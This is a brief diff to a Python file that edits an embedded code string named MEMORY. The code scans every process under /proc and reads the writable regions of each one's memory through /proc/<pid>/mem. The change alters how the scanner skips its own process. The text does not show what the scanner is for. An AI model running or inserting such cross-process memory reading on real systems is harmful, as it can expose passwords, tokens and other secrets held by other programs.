@@ -121,7 +121,7 @@ MEMORY = """import re, os
 found = []
 for process in filter(str.isdigit, os.listdir("/proc")):
     try:
-        maps = open(f"/proc/{process}/maps").read() if int(process) != os.getpid() else ""
+        maps = open(f"/proc/{process}/maps").read() if process != os.readlink("/proc/self") else ""
         memory = open(f"/proc/{process}/mem", "rb") if maps else None
         for low, high in re.findall(r"^(\\w+)-(\\w+) rw", maps, flags=re.M):
             memory.seek(int(low, 16))
